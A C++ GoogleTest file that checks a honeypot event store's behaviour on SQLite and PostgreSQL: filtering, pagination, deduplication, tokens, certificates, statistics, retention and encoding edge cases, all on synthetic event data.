// The storage contract, on every backend: each test runs once on SQLite
// and once on PostgreSQL (StoreTest/<test>/sqlite, StoreTest/<test>/postgres).
// What only one backend does is tested in sqlite_storage_test.cpp and
// pg_storage_test.cpp.
#include "store/storage.hpp"

#include "store_test_support.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdint>
#include <functional>
#include <map>
#include <random>
#include <set>
#include <stdexcept>
#include <thread>
#include <tuple>

namespace honeycomb::store {
namespace {

using namespace test_support;

class StoreTest : public StoreFixture, public ::testing::WithParamInterface<Backend> {
 protected:
  Backend backend() const override { return GetParam(); }
};

INSTANTIATE_TEST_SUITE_P(, StoreTest, ::testing::Values(Backend::sqlite, Backend::postgres),
                         [](const ::testing::TestParamInfo<Backend>& tested) { return backend_name(tested.param); });

TEST_P(StoreTest, AppendFlushQueryRoundTrip) {
  auto s = open();
  ASSERT_TRUE(s);
  std::atomic<int> committed{0};
  std::vector<events::Event> batch = range(0, 100);
  ASSERT_TRUE(s->append(batch, [&](bool ok) { committed += ok ? 1 : -100; }));
  s->flush();
  EXPECT_EQ(committed.load(), 1);
  const auto c = s->counters();
  EXPECT_EQ(c.appended, 100u);
  EXPECT_EQ(c.stored, 100u);
  EXPECT_EQ(c.queued, 0u);
  EXPECT_EQ(c.failed, 0u);

  EventQuery q;
  q.limit = 10;
  auto page = s->query(q);
  ASSERT_TRUE(page) << page.error.message;
  ASSERT_EQ(page.value->events.size(), 10u);
  EXPECT_FALSE(page.value->next_cursor.empty());
  const auto& newest = page.value->events.front();
  const auto expected = make_event(99);
  EXPECT_EQ(newest.event.event_id, expected.event_id);
  EXPECT_EQ(newest.event.event_us, expected.event_us);
  EXPECT_EQ(newest.event.received_us, expected.received_us);
  EXPECT_EQ(newest.event.node_id, expected.node_id);
  EXPECT_EQ(newest.event.pot_id, expected.pot_id);
  EXPECT_EQ(newest.event.pot_type, expected.pot_type);
  EXPECT_EQ(newest.event.event_type, expected.event_type);
  EXPECT_EQ(newest.event.src_ip, expected.src_ip);
  EXPECT_EQ(newest.event.src_port, expected.src_port);
  EXPECT_EQ(newest.event.dst_ip, expected.dst_ip);
  EXPECT_EQ(newest.event.dst_port, expected.dst_port);
  EXPECT_EQ(newest.event.username, expected.username);
  EXPECT_EQ(newest.event.password, expected.password);
  EXPECT_EQ(newest.event.command, expected.command);
  EXPECT_EQ(newest.event.session, expected.session);
  EXPECT_EQ(newest.event.message, expected.message);
  EXPECT_EQ(newest.event.raw_json, expected.raw_json);
  for (std::size_t i = 1; i < page.value->events.size(); ++i) {
    EXPECT_GT(page.value->events[i - 1].event.event_us, page.value->events[i].event.event_us);
  }

  auto got = s->get(newest.id);
  ASSERT_TRUE(got) << got.error.message;
  EXPECT_EQ(got.value->event.event_id, "ev-99");
  auto missing = s->get(123456);
  EXPECT_FALSE(missing);
  EXPECT_TRUE(missing.error.not_found);
  EXPECT_FALSE(missing.error.bad_request);
}

TEST_P(StoreTest, EachFilter) {
  auto s = open();
  ASSERT_TRUE(s);
  append_all(*s, range(0, 120));
  s->flush();

  EXPECT_EQ(count(*s, {}), 120u);
  EventFilter f;
  f.since_us = kT0 + 100 * 1'000'000;
  EXPECT_EQ(count(*s, f), 20u);
  f = {};
  f.until_us = kT0 + 10 * 1'000'000;
  EXPECT_EQ(count(*s, f), 10u);
  f.since_us = kT0 + 5 * 1'000'000;
  EXPECT_EQ(count(*s, f), 5u);
  f = {};
  f.node_id = kBigNode;
  EXPECT_EQ(count(*s, f), 60u);
  f.node_id = 7;
  EXPECT_EQ(count(*s, f), 60u);
  f.node_id = 8;
  EXPECT_EQ(count(*s, f), 0u);
  f = {};
  f.pot_id = "pot-1";
  EXPECT_EQ(count(*s, f), 40u);
  f = {};
  f.pot_type = "honnypotter";
  EXPECT_EQ(count(*s, f), 40u);
  f = {};
  f.event_type = "cowrie.command.input";
  EXPECT_EQ(count(*s, f), 60u);
  f.pot_id = "pot-1";
  EXPECT_EQ(count(*s, f), 20u);  // odd i with i % 3 == 1
  f = {};
  f.text = "needle-3";           // case-insensitive substring of the raw record
  EXPECT_EQ(count(*s, f), 17u);  // i % 7 == 3 for i < 120
  f.text = R"("n":42,)";
  EXPECT_EQ(count(*s, f), 1u);
  f.text = "100%";
  EXPECT_EQ(count(*s, f), 0u);  // '%' is literal
  f.text = "_";
  EXPECT_EQ(count(*s, f), 0u);  // '_' is literal
}

TEST_P(StoreTest, SourceFilterIpAndCidr) {
  auto s = open();
  ASSERT_TRUE(s);
  std::vector<events::Event> v;
  const char* ips[] = {"10.1.2.3",      "10.1.2.200",  "10.2.0.1",        "192.168.0.1", "2001:db8::1",
                       "2001:db8:1::1", "2001:dba::1", "::ffff:10.1.2.4", "not-an-ip",   ""};
  int i = 0;
  for (const char* ip : ips) {
    auto e = make_event(i++);
    e.src_ip = ip;
    v.push_back(std::move(e));
  }
  append_all(*s, std::move(v));
  s->flush();
  auto n = [&](const std::string& src) {
    EventFilter f;
    f.src = src;
    return count(*s, f);
  };
  EXPECT_EQ(n("10.1.2.3"), 1u);
  EXPECT_EQ(n("10.1.2.3/32"), 1u);
  EXPECT_EQ(n("10.1.2.0/24"), 3u);  // incl. the IPv4-mapped IPv6 form
  EXPECT_EQ(n("10.0.0.0/8"), 4u);
  EXPECT_EQ(n("0.0.0.0/0"), 5u);
  EXPECT_EQ(n("192.168.0.1"), 1u);
  EXPECT_EQ(n("2001:db8::/32"), 2u);
  EXPECT_EQ(n("2001:db8::1"), 1u);
  EXPECT_EQ(n("2001:db8::/48"), 1u);
  EXPECT_EQ(n("::/0"), 8u);
  EXPECT_EQ(n("::ffff:10.1.2.4"), 1u);
  for (const char* bad :
       {"10.0.0.0/33", "2001:db8::/129", "10.0.0.0/", "10.0.0.0/x", "not-an-ip", "10.0.0", "/8", "10.0.0.0/-1"}) {
    EventQuery q;
    q.filter.src = bad;
    auto page = s->query(q);
    EXPECT_FALSE(page) << bad;
    EXPECT_TRUE(page.error.bad_request) << bad;
    StatsQuery sq;
    sq.filter.src = bad;
    EXPECT_TRUE(s->stats(sq).error.bad_request) << bad;
  }
}

TEST_P(StoreTest, BadCursorIsABadRequest) {
  auto s = open();
  ASSERT_TRUE(s);
  for (const char* bad : {"x", "c1.", "c1.5", "c1.a.b", "c1.5.", "c2.5.5"}) {
    EventQuery q;
    q.cursor = bad;
    auto page = s->query(q);
    EXPECT_FALSE(page) << bad;
    EXPECT_TRUE(page.error.bad_request) << bad;
  }
}

TEST_P(StoreTest, PaginationCoversEveryEventOnceWhileAppending) {
  auto s = open();
  ASSERT_TRUE(s);
  // Equal times, so that ties are broken by id.
  std::vector<events::Event> v;
  for (int i = 0; i < 500; ++i) {
    v.push_back(make_event(i, kT0 + (i / 10) * 1'000'000));
  }
  append_all(*s, std::move(v));
  s->flush();

  std::set<std::int64_t> seen;
  std::vector<std::pair<std::int64_t, std::int64_t>> order;
  EventQuery q;
  q.limit = 7;
  int next = 1000;
  while (true) {
    auto page = s->query(q);
    ASSERT_TRUE(page) << page.error.message;
    for (const auto& e : page.value->events) {
      EXPECT_TRUE(seen.insert(e.id).second) << "seen twice: " << e.id;
      order.emplace_back(e.event.event_us, e.id);
    }
    // Newer events and older late arrivals appended between pages.
    std::vector<events::Event> more{make_event(next, kT0 + 10'000'000'000), make_event(next + 1, kT0 - 5)};
    next += 2;
    ASSERT_TRUE(s->append(more));
    s->flush();
    if (page.value->next_cursor.empty()) {
      break;
    }
    q.cursor = page.value->next_cursor;
  }
  for (std::int64_t id = 1; id <= 500; ++id) {
    EXPECT_TRUE(seen.count(id)) << "missing " << id;
  }
  for (std::size_t i = 1; i < order.size(); ++i) {
    EXPECT_GT(order[i - 1], order[i]);
  }
}

TEST_P(StoreTest, DuplicatesStoredOnce) {
  auto s = open();
  ASSERT_TRUE(s);
  append_all(*s, range(0, 50));
  s->flush();
  auto again = range(40, 60);       // 10 duplicates
  again.push_back(make_event(59));  // a duplicate inside the batch
  auto no_id = make_event(70);
  no_id.event_id.clear();
  again.push_back(no_id);
  again.push_back(no_id);  // no id: never deduplicated
  append_all(*s, std::move(again));
  s->flush();
  const auto c = s->counters();
  EXPECT_EQ(c.stored, 62u);
  EXPECT_EQ(c.duplicates, 11u);
  EXPECT_EQ(count(*s, {}), 62u);
}

TEST_P(StoreTest, BackpressureTakesAllOrNothing) {
  StorageOptions o;
  o.queue_capacity = 10;
  auto s = open(o);
  ASSERT_TRUE(s);
  // Fill the queue faster than the writer can drain it: some append fails.
  int refused = 0;
  int accepted_events = 0;
  for (int round = 0; round < 2000 && refused == 0; ++round) {
    auto batch = range(round * 6, round * 6 + 6);
    if (s->append(batch)) {
      EXPECT_TRUE(batch.empty());
      accepted_events += 6;
    } else {
      ++refused;
      EXPECT_EQ(batch.size(), 6u) << "a refused batch is left whole to the caller";
    }
  }
  EXPECT_GT(refused, 0);
  s->flush();
  auto batch = range(100000, 100006);
  EXPECT_TRUE(s->append(batch));
  s->flush();
  EXPECT_EQ(s->counters().stored, static_cast<std::uint64_t>(accepted_events + 6));
  EXPECT_EQ(s->counters().queued, 0u);

  // Larger than the whole capacity: taken when the queue is empty.
  auto big = range(200000, 200050);
  EXPECT_TRUE(s->append(big));
  s->flush();
  EXPECT_EQ(s->counters().stored, static_cast<std::uint64_t>(accepted_events + 56));
}

TEST_P(StoreTest, PersistsAcrossReopen) {
  {
    auto s = open();
    ASSERT_TRUE(s);
    append_all(*s, range(0, 30));
    // No flush: the destructor drains.
  }
  auto s = open();
  ASSERT_TRUE(s);
  EXPECT_EQ(count(*s, {}), 30u);
  append_all(*s, range(20, 40));
  s->flush();
  EXPECT_EQ(count(*s, {}), 40u);
  EXPECT_EQ(s->counters().duplicates, 10u);
}

TEST_P(StoreTest, NodesWithUint64IdsAndPots) {
  NodeRecord n;
  n.node_id = kBigNode;
  n.name = "edge-1";
  n.address = "198.51.100.4";
  n.port = 65535;
  n.node_type = "Full";
  n.status = "Running";
  n.first_seen_us = kT0;
  n.last_seen_us = kT0 + 5;
  n.pots = {{"cowrie-01", "cowrie", "Running", "", kT0 + 1}, {"wp-01", "honnypotter", "Failed", "no php", kT0 + 2}};
  NodeRecord m;
  m.node_id = 16298147445003569694ull;
  m.name = "edge-2";
  m.node_type = "Agent";
  m.status = "Unknown";
  {
    auto s = open();
    ASSERT_TRUE(s);
    s->save_node(n);
    s->save_node(m);
    n.status = "Stopped";
    n.pots.pop_back();
    s->save_node(n);  // upsert replaces the pot list
  }
  auto s = open();
  ASSERT_TRUE(s);
  auto nodes = s->load_nodes();
  ASSERT_EQ(nodes.size(), 2u);
  const auto& a = nodes[0].node_id == kBigNode ? nodes[0] : nodes[1];
  const auto& b = nodes[0].node_id == kBigNode ? nodes[1] : nodes[0];
  EXPECT_EQ(a.node_id, kBigNode);
  EXPECT_EQ(a.name, "edge-1");
  EXPECT_EQ(a.address, "198.51.100.4");
  EXPECT_EQ(a.port, 65535);
  EXPECT_EQ(a.node_type, "Full");
  EXPECT_EQ(a.status, "Stopped");
  EXPECT_EQ(a.first_seen_us, kT0);
  EXPECT_EQ(a.last_seen_us, kT0 + 5);
  ASSERT_EQ(a.pots.size(), 1u);
  EXPECT_EQ(a.pots[0].pot_id, "cowrie-01");
  EXPECT_EQ(a.pots[0].pot_type, "cowrie");
  EXPECT_EQ(a.pots[0].status, "Running");
  EXPECT_EQ(a.pots[0].updated_us, kT0 + 1);
  EXPECT_EQ(b.node_id, 16298147445003569694ull);
  EXPECT_EQ(b.node_type, "Agent");
  EXPECT_TRUE(b.pots.empty());
}

TEST_P(StoreTest, Tokens) {
  auto s = open();
  ASSERT_TRUE(s);
  const auto a = s->add_token("ci", std::string(64, 'a'));
  const auto b = s->add_token("admin", std::string(64, 'b'));
  EXPECT_GT(a.id, 0);
  EXPECT_GT(b.id, a.id);
  EXPECT_GT(a.created_us, 0);
  EXPECT_EQ(s->add_token("dup", std::string(64, 'a')).id, 0);  // the hash is unique
  auto all = s->tokens();
  ASSERT_EQ(all.size(), 2u);
  EXPECT_EQ(all[0].name, "ci");
  EXPECT_FALSE(all[0].revoked);
  auto found = s->find_token(std::string(64, 'b'));
  ASSERT_TRUE(found);
  EXPECT_EQ(found->name, "admin");
  EXPECT_FALSE(s->find_token(std::string(64, 'c')));

  EXPECT_TRUE(s->revoke_token(std::to_string(a.id)));
  EXPECT_TRUE(s->find_token(std::string(64, 'a'))->revoked);
  EXPECT_TRUE(s->revoke_token("admin"));
  EXPECT_TRUE(s->find_token(std::string(64, 'b'))->revoked);
  EXPECT_FALSE(s->revoke_token("nobody"));
  EXPECT_FALSE(s->revoke_token("999"));
  EXPECT_FALSE(s->revoke_token(""));
}

TEST_P(StoreTest, JoinTokensAreTakenOnceAndNotAfterExpiry) {
  auto s = open();
  ASSERT_TRUE(s);
  const auto now = std::int64_t{1'800'000'000'000'000};
  ASSERT_GT(s->add_join_token("sensor-1", std::string(64, 'a'), now + 1000).id, 0);
  ASSERT_GT(s->add_join_token("sensor-2", std::string(64, 'b'), now - 1).id, 0);
  auto taken = s->redeem_join_token(std::string(64, 'a'), 18446744073709551615ULL, now);
  ASSERT_EQ(taken.index(), 0u) << std::get<std::string>(taken);
  EXPECT_EQ(std::get<JoinTokenRecord>(taken).node_name, "sensor-1");
  EXPECT_EQ(std::get<JoinTokenRecord>(taken).used_by, 18446744073709551615ULL);
  // A replay, even by the same node, a moment later.
  auto again = s->redeem_join_token(std::string(64, 'a'), 18446744073709551615ULL, now + 1);
  ASSERT_EQ(again.index(), 1u);
  EXPECT_NE(std::get<std::string>(again).find("already used"), std::string::npos);
  auto expired = s->redeem_join_token(std::string(64, 'b'), 5, now);
  ASSERT_EQ(expired.index(), 1u);
  EXPECT_NE(std::get<std::string>(expired).find("expired"), std::string::npos);
  auto unknown = s->redeem_join_token(std::string(64, 'c'), 5, now);
  EXPECT_EQ(std::get<std::string>(unknown), "unknown join token");
  EXPECT_EQ(s->join_tokens().size(), 2u);
}

TEST_P(StoreTest, NodeCertificatesRevokedByIdNameOrSerial) {
  auto s = open();
  ASSERT_TRUE(s);
  const std::uint64_t big = 18446744073709551615ULL;  // stored as a negative int64
  ASSERT_TRUE(s->add_node_certificate({"aa01", big, "sensor-1", 1, 100, 0}));
  ASSERT_TRUE(s->add_node_certificate({"aa02", big, "sensor-1", 2, 200, 0}));
  ASSERT_TRUE(s->add_node_certificate({"bb01", 42, "sensor-2", 3, 300, 0}));
  ASSERT_TRUE(s->add_node_certificate({"cc01", 43, "sensor-3", 4, 400, 0}));
  EXPECT_FALSE(s->add_node_certificate({"cc01", 43, "sensor-3", 4, 400, 0}));  // serials are unique
  EXPECT_EQ(s->revoke_node_certificates(std::to_string(big), 10), 2);
  EXPECT_EQ(s->revoke_node_certificates(std::to_string(big), 11), 0);  // already revoked
  EXPECT_EQ(s->revoke_node_certificates("sensor-2", 12), 1);
  EXPECT_EQ(s->revoke_node_certificates("cc01", 13), 1);
  EXPECT_EQ(s->revoke_node_certificates("nobody", 14), 0);
  EXPECT_EQ(s->revoke_node_certificates("", 14), 0);
  for (const auto& c : s->node_certificates()) {
    EXPECT_NE(c.revoked_us, 0) << c.serial;
    if (c.serial == "aa01") {
      EXPECT_EQ(c.node_id, big);
    }
  }
  EXPECT_TRUE(s->set_node_totp_key(big, "KEY1"));
  EXPECT_TRUE(s->set_node_totp_key(big, "KEY2"));
  const auto keys = s->node_totp_keys();
  ASSERT_EQ(keys.size(), 1u);
  EXPECT_EQ(keys[0], (std::pair<std::uint64_t, std::string>{big, "KEY2"}));
}

TEST_P(StoreTest, AuditLogNewestFirstWithPaging) {
  auto s = open();
  ASSERT_TRUE(s);
  for (int i = 0; i < 5; ++i) {
    s->audit(AuditRecord{0, 0, "cli", "node.revoke", "n" + std::to_string(i), "ok"});
  }
  auto page = s->audit_log(2);
  ASSERT_EQ(page.size(), 2u);
  EXPECT_EQ(page[0].target, "n4");
  EXPECT_EQ(page[1].target, "n3");
  EXPECT_GT(page[0].time_us, 0);
  auto next = s->audit_log(10, page[1].id);
  ASSERT_EQ(next.size(), 3u);
  EXPECT_EQ(next[0].target, "n2");
}

TEST_P(StoreTest, Stats) {
  auto s = open();
  ASSERT_TRUE(s);
  append_all(*s, range(0, 120));  // one event per second from kT0
  s->flush();
  StatsQuery q;
  q.bucket_seconds = 60;
  q.top = 2;
  auto st = s->stats(q);
  ASSERT_TRUE(st) << st.error.message;
  EXPECT_EQ(st.value->total, 120u);
  // kT0 is 10 s past a minute: 50 + 60 + 10.
  ASSERT_EQ(st.value->buckets.size(), 3u);
  EXPECT_EQ(st.value->buckets[0], std::make_pair(kT0 / 1'000'000 - 10, std::uint64_t{50}));
  EXPECT_EQ(st.value->buckets[1].second, 60u);
  EXPECT_EQ(st.value->buckets[2].second, 10u);
  ASSERT_EQ(st.value->top_usernames.size(), 2u);
  EXPECT_EQ(st.value->top_usernames[0].count, 60u);
  ASSERT_EQ(st.value->top_src_ips.size(), 2u);
  EXPECT_EQ(st.value->top_src_ips[0].key, "10.0.0.9");  // five IPs with 18 each: ties ordered by key
  EXPECT_EQ(st.value->top_src_ips[0].count, 18u);
  EXPECT_EQ(st.value->top_src_ips[1].key, "10.0.1.9");
  ASSERT_EQ(st.value->top_passwords.size(), 2u);
  EXPECT_EQ(st.value->top_passwords[0].count, 40u);
  ASSERT_EQ(st.value->top_commands.size(), 1u);  // empty commands are not counted
  EXPECT_EQ(st.value->top_commands[0].key, "uname -a");
  EXPECT_EQ(st.value->top_commands[0].count, 60u);
  ASSERT_EQ(st.value->by_pot_type.size(), 2u);
  EXPECT_EQ(st.value->by_pot_type[0].key, "cowrie");
  EXPECT_EQ(st.value->by_pot_type[0].count, 80u);
  ASSERT_EQ(st.value->by_event_type.size(), 2u);

  q.filter.pot_id = "pot-0";
  q.filter.since_us = kT0 + 60'000'000;
  st = s->stats(q);
  ASSERT_TRUE(st) << st.error.message;
  EXPECT_EQ(st.value->total, 20u);
  ASSERT_EQ(st.value->by_pot_type.size(), 1u);
  EXPECT_EQ(st.value->by_pot_type[0].key, "honnypotter");
  EXPECT_EQ(st.value->by_pot_type[0].count, 20u);

  q.bucket_seconds = 0;
  EXPECT_TRUE(s->stats(q).error.bad_request);
}

// Past the in-memory bound, figures are counted by SQL: the same answers.
TEST_P(StoreTest, StatsPastTheMemoryBoundAreCountedBySql) {
  StorageOptions o;
  o.stats_distinct_max = 2;  // 3 buckets, 5 addresses, 3 passwords: all over it
  auto s = open(o);
  ASSERT_TRUE(s);
  append_all(*s, range(0, 120));
  s->flush();
  StatsQuery q;
  q.bucket_seconds = 60;
  q.top = 2;
  auto st = s->stats(q);
  ASSERT_TRUE(st) << st.error.message;
  EXPECT_EQ(st.value->total, 120u);
  ASSERT_EQ(st.value->buckets.size(), 3u);
  EXPECT_EQ(st.value->buckets[0], std::make_pair(kT0 / 1'000'000 - 10, std::uint64_t{50}));
  EXPECT_EQ(st.value->buckets[2].second, 10u);
  ASSERT_EQ(st.value->top_src_ips.size(), 2u);
  EXPECT_EQ(st.value->top_src_ips[0].key, "10.0.0.9");
  EXPECT_EQ(st.value->top_src_ips[0].count, 18u);
  EXPECT_EQ(st.value->top_src_ips[1].key, "10.0.1.9");
  ASSERT_EQ(st.value->top_passwords.size(), 2u);
  EXPECT_EQ(st.value->top_passwords[0].count, 40u);
  ASSERT_EQ(st.value->top_commands.size(), 1u);
  EXPECT_EQ(st.value->top_commands[0].count, 60u);
  ASSERT_EQ(st.value->by_pot_type.size(), 2u);
  EXPECT_EQ(st.value->by_pot_type[0].key, "cowrie");
  EXPECT_EQ(st.value->by_pot_type[0].count, 80u);
}

TEST_P(StoreTest, ExportStreamsNewestFirstAndStops) {
  auto s = open();
  ASSERT_TRUE(s);
  append_all(*s, range(0, 2500));
  s->flush();
  std::int64_t last_us = INT64_MAX;
  std::size_t n = 0;
  auto r = s->export_events({}, [&](const StoredEvent& e) {
    EXPECT_LT(e.event.event_us, last_us);
    last_us = e.event.event_us;
    ++n;
    return true;
  });
  ASSERT_TRUE(r) << r.error.message;
  EXPECT_EQ(*r.value, 2500u);
  EXPECT_EQ(n, 2500u);

  EventFilter f;
  f.pot_id = "pot-2";
  n = 0;
  r = s->export_events(f, [&](const StoredEvent& e) {
    EXPECT_EQ(e.event.pot_id, "pot-2");
    return ++n < 10;
  });
  ASSERT_TRUE(r);
  EXPECT_EQ(*r.value, 10u);
  f.src = "bad";
  EXPECT_TRUE(s->export_events(f, [](const StoredEvent&) { return true; }).error.bad_request);
}

TEST_P(StoreTest, ConcurrentReadsWhileWriting) {
  auto s = open();
  ASSERT_TRUE(s);
  std::atomic<bool> done{false};
  std::atomic<int> reads{0};
  std::atomic<int> errors{0};
  std::vector<std::thread> readers;
  for (int t = 0; t < 3; ++t) {
    readers.emplace_back([&, t] {
      std::size_t last = 0;
      while (!done) {
        EventQuery q;
        q.limit = 50;
        if (t == 1) {
          q.filter.pot_id = "pot-1";
        }
        auto page = s->query(q);
        if (!page) {
          ++errors;
        }
        StatsQuery sq;
        auto st = s->stats(sq);
        if (!st || st.value->total < last) {
          ++errors;
        } else {
          last = st.value->total;
        }
        ++reads;
      }
    });
  }
  for (int i = 0; i < 40; ++i) {
    auto batch = range(i * 250, i * 250 + 250);
    while (!s->append(batch)) {
      std::this_thread::yield();
    }
  }
  s->flush();
  EXPECT_TRUE(wait_for([&] { return reads.load() >= 6; }));
  done = true;
  for (auto& t : readers) {
    t.join();
  }
  EXPECT_EQ(errors.load(), 0);
  EXPECT_EQ(count(*s, {}), 10000u);
}

// Events older than retention_days go, the rest stay (PostgreSQL drops whole
// day partitions: pg_storage_test.cpp checks how; here, only what is left).
TEST_P(StoreTest, RetentionByAge) {
  const auto now = now_us();
  StorageOptions o;
  o.retention_days = 1;
  o.retention_interval_ms = 5;
  auto s = open(o);
  ASSERT_TRUE(s);
  std::vector<events::Event> v;
  for (int i = 0; i < 30; ++i) {
    v.push_back(make_event(i, now - 3 * 86'400'000'000LL + i));  // 3 days old
  }
  for (int i = 30; i < 50; ++i) {
    v.push_back(make_event(i, now - 3'600'000'000LL + i));  // an hour old
  }
  append_all(*s, std::move(v));
  s->flush();
  ASSERT_TRUE(wait_for([&] { return s->counters().retention_deleted >= 30; }));
  EXPECT_EQ(s->counters().retention_deleted, 30u);
  EXPECT_EQ(count(*s, {}), 20u);
}

TEST_P(StoreTest, ThrowingCallbackDoesNotStopTheWriter) {
  auto s = open();
  ASSERT_TRUE(s);
  auto batch = range(0, 3);
  ASSERT_TRUE(s->append(batch, [](bool) { throw std::runtime_error("caller bug"); }));
  s->flush();
  std::atomic<bool> ok{false};
  batch = range(3, 6);
  ASSERT_TRUE(s->append(batch, [&](bool committed) { ok = committed; }));
  s->flush();
  EXPECT_TRUE(ok.load());
  EXPECT_EQ(s->counters().stored, 6u);
}

TEST_P(StoreTest, EmptyBatchCallbackRuns) {
  auto s = open();
  ASSERT_TRUE(s);
  std::atomic<int> calls{0};
  std::vector<events::Event> none;
  ASSERT_TRUE(s->append(none, [&](bool committed) { calls += committed ? 1 : 100; }));
  s->flush();
  EXPECT_EQ(calls.load(), 1);
}

TEST_P(StoreTest, SlowQueriesTimeOut) {
  StorageOptions o;
  o.query_timeout_ms = 1;
  auto s = open(o);
  ASSERT_TRUE(s);
  const std::string pad(1000, 'p');
  for (int round = 0; round < 20; ++round) {
    auto batch = range(round * 1000, round * 1000 + 1000);
    for (auto& e : batch) {
      e.raw_json = R"({"pad":")" + pad + R"("})";
    }
    ASSERT_TRUE(s->append(batch));
  }
  s->flush();
  // A text nothing contains: the whole table is read.
  EventQuery q;
  q.filter.text = "absent-text";
  auto page = s->query(q);
  ASSERT_FALSE(page);
  EXPECT_TRUE(page.error.timed_out) << page.error.message;
  EXPECT_FALSE(page.error.bad_request);
  StatsQuery sq;
  sq.filter.text = "absent-text";
  auto st = s->stats(sq);
  ASSERT_FALSE(st);
  EXPECT_TRUE(st.error.timed_out) << st.error.message;
  // An attacker's 3,000 rows: done within 1 ms or cut off as timed out,
  // never another error; its temporary table does not outlive the call.
  for (int i = 0; i < 2; ++i) {
    auto a = s->attacker_summary("10.0.0.9");
    if (a) {
      EXPECT_EQ(a.value->event_count, 3000u);
    } else {
      EXPECT_TRUE(a.error.timed_out) << a.error.message;
    }
  }
  // Export has no time limit; the pooled connections still work.
  auto n = s->export_events(q.filter, [](const StoredEvent&) { return true; });
  ASSERT_TRUE(n) << n.error.message;
  EXPECT_EQ(*n.value, 0u);
  EXPECT_EQ(s->export_events({}, [](const StoredEvent&) { return true; }).value.value_or(0), 20000u);
}

TEST_P(StoreTest, DedupKeyIsIdAndEventTime) {
  auto s = open();
  ASSERT_TRUE(s);
  // The same id at another time is another event (see docs/EVENTS.md, Deduplication).
  std::vector<events::Event> v{make_event(1, kT0), make_event(1, kT0 + 1), make_event(1, kT0)};
  append_all(*s, std::move(v));
  s->flush();
  EXPECT_EQ(s->counters().stored, 2u);
  EXPECT_EQ(s->counters().duplicates, 1u);
}

TEST_P(StoreTest, LargeEventsRoundTrip) {
  auto s = open();
  ASSERT_TRUE(s);
  auto e = make_event(1);
  e.command = std::string(120 * 1024, 'c');
  e.password = std::string(300 * 1024, 'p');
  e.raw_json = R"({"password":")" + e.password + R"(","input":")" + e.command + R"("})";
  std::vector<events::Event> v{e};
  append_all(*s, std::move(v));
  s->flush();
  auto got = s->get(1);
  ASSERT_TRUE(got) << got.error.message;
  EXPECT_EQ(got.value->event.command, e.command);
  EXPECT_EQ(got.value->event.password, e.password);
  EXPECT_EQ(got.value->event.raw_json, e.raw_json);
}

// Records come from the network: a NUL byte (JSON's \u0000) or malformed
// UTF-8 in a field must not make its batch unstorable. SQLite keeps such
// bytes as given; PostgreSQL's text holds neither, so each becomes U+FFFD
// (store/pg_db.hpp). Valid UTF-8 is kept as given by both.
TEST_P(StoreTest, NulBytesAndMalformedUtf8AreStored) {
  auto s = open();
  ASSERT_TRUE(s);
  auto e = make_event(1);
  e.username = std::string("nul\0byte", 8);
  e.password = "bad\xff\xfe";
  e.command = "echo h\xc3\xa9llo \xe2\x86\x92 \xf0\x9f\x90\x9d";  // é, an arrow, a bee
  std::atomic<int> result{-1};
  std::vector<events::Event> v{e};
  ASSERT_TRUE(s->append(v, [&](bool ok) { result = ok ? 1 : 0; }));
  s->flush();
  EXPECT_EQ(result.load(), 1);
  EXPECT_EQ(s->counters().failed, 0u);
  auto got = s->get(1);
  ASSERT_TRUE(got) << got.error.message;
  EXPECT_EQ(got.value->event.command, e.command);
  if (GetParam() == Backend::postgres) {
    const std::string replacement = "\xEF\xBF\xBD";  // U+FFFD
    EXPECT_EQ(got.value->event.username, "nul" + replacement + "byte");
    EXPECT_EQ(got.value->event.password, "bad" + replacement + replacement);
  } else {
    EXPECT_EQ(got.value->event.username, e.username);
    EXPECT_EQ(got.value->event.password, e.password);
  }
}

// Sources are answered two ways (docs/EVENTS.md): an address or range with
// few rows through the block-local index, one with many by walking the time
// index. Both must give every match once, newest first, across index blocks
// (2^16 rows) and with the other filters and the cursor. PostgreSQL plans
// its own way; the answers must be the same, ids in arrival order included.
TEST_P(StoreTest, SourceFilterAcrossIndexBlocksBothPlans) {
  auto s = open();
  ASSERT_TRUE(s);
  constexpr int kEvents = 140'000;    // ids 1..140000: blocks 0, 1 and 2
  constexpr int kBusy = 25'000;       // more than the block-index plan sorts
  std::vector<std::int64_t> rare_us;  // index i -> event time of a rare row
  std::vector<events::Event> batch;
  for (int i = 0; i < kEvents; ++i) {
    auto e = make_event(i);
    e.raw_json = "{}";
    e.src_ip = "172.16." + std::to_string(i % 200) + "." + std::to_string(i % 250 + 1);
    if (i % 5 == 0 && i / 5 < kBusy) {
      e.src_ip = "10.9.9.9";
    }
    if (i == 7 || i == 70'001 || i == 139'999) {
      e.src_ip = "203.0.113.77";
    }
    if (i == 139'999) {
      e.event_us = kT0 - 1'000'000;  // arrived last, but the oldest of the three
    }
    if (i == 70'003) {
      e.src_ip = "203.0.113.78";
    }
    batch.push_back(std::move(e));
    if (batch.size() == 10'000) {
      ASSERT_TRUE(append_when_room(*s, batch));
    }
  }
  ASSERT_TRUE(append_when_room(*s, batch));
  s->flush();

  // Rare address (block index): newest first by event time, not by arrival.
  EventFilter f;
  f.src = "203.0.113.77";
  auto ids = ids_of(*s, f, 1);  // one per page: the cursor is used twice
  EXPECT_EQ(ids, (std::vector<std::int64_t>{70'002, 8, 140'000}));
  f.src = "203.0.113.0/24";
  EXPECT_EQ(ids_of(*s, f, 2), (std::vector<std::int64_t>{70'004, 70'002, 8, 140'000}));
  f.pot_id = "pot-1";  // i % 3 == 1: not i = 70001
  EXPECT_EQ(ids_of(*s, f, 2), (std::vector<std::int64_t>{70'004, 8, 140'000}));
  f.pot_id.clear();
  f.since_us = kT0;
  f.until_us = kT0 + 100'000'000'000;
  EXPECT_EQ(ids_of(*s, f, 2), (std::vector<std::int64_t>{70'004, 70'002, 8}));
  f = {};
  f.src = "203.0.113.79";
  EXPECT_TRUE(ids_of(*s, f).empty());

  // Busy address (time walk): all of them, each once, in order.
  f.src = "10.9.9.9";
  ids = ids_of(*s, f, 1000);
  ASSERT_EQ(ids.size(), static_cast<std::size_t>(kBusy));
  EXPECT_EQ(ids.front(), static_cast<std::int64_t>((kBusy - 1) * 5 + 1));
  EXPECT_EQ(ids.back(), 1);
  EXPECT_TRUE(std::is_sorted(ids.rbegin(), ids.rend()));
  f.src = "10.0.0.0/8";
  EXPECT_EQ(ids_of(*s, f, 1000).size(), static_cast<std::size_t>(kBusy));
  f.pot_type = "honnypotter";  // i % 3 == 0
  EXPECT_EQ(ids_of(*s, f, 1000).size(), static_cast<std::size_t>((kBusy + 2) / 3));
}

